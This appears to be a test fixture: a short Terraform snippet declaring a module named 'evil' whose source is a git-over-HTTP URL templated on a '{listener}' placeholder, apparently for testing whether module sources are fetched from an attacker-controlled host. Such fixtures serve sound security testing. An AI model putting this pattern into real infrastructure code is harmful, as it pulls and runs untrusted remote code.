module "evil" {
  source = "git::{listener}/module-of-git-over-http.git?ref=v1"
}
